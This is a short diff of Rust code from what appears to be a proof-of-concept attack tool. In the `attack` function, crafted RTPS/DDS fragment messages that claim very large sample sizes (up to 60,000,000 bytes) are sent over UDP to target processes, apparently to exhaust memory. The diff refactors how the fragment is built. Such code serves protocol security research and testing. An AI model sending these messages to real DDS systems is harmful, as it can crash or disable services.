@@ -32,8 +32,9 @@ fn attack(socket: &UdpSocket, processes: &[SocketAddrV4]) {
             (60_000_000, SEDP_SUBSCRIPTIONS),
             (200_000, SEDP_SUBSCRIPTIONS),
         ] {
-            let fragment = Fragment { sequence: i64::from(sample_bytes), size: FRAGMENT_BYTES, sample_bytes };
-            let message = Message::of(prefix(number)).first_fragment(reader, writer, &fragment);
+            let (bytes, sequence) = (&[0; FRAGMENT_BYTES as usize], i64::from(sample_bytes));
+            let fragment = Fragment { number: 1, bytes, sequence, size: FRAGMENT_BYTES, sample_bytes };
+            let message = Message::of(prefix(number)).fragment(reader, writer, &fragment);
             for process in processes {
                 message.send(socket, *process);
             }
